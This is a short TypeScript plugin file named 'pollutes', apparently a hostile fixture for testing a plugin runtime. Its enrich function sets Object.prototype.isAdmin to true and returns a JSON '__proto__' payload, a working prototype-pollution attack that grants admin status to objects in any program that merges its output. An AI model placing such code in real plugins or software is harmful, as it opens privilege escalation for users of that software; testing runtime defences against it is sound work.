/** Returns objects that change all objects of a program that merges them. */
import { linkifier } from "@agentlip/plugin-runtime/plugin"

export default linkifier({
  name: "pollutes",
  version: "1.0.0",
  enrich: () => {
    const prototype: { isAdmin?: boolean } = Object.prototype
    prototype.isAdmin = true
    return [
      { kind: "loot", span: { start: 0, end: 1 }, data: JSON.parse('{"__proto__": {"isAdmin": true}}') }
    ]
  }
})
